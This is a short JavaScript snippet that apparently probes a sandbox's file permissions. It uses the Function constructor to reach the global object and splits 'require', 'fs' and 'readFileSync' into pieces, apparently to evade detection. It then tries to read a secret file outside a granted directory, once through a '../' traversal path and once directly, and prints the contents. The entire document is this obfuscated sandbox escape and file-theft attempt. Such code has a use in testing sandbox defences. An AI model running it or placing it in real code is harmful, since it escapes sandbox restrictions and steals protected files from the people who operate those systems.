// The constructor of every function makes code; what it makes sees the whole global object.
const make = (() => {}).constructor;
for (const path of ['/granted/../outside/secret.txt', '/granted/outside/secret.txt']) {
  try {
    console.log(make('path', "return this['req' + 'uire']('f' + 's')['readFile' + 'Sync'](path, 'utf8')")(path));
  } catch (error) {
    console.log(error.code);
  }
}
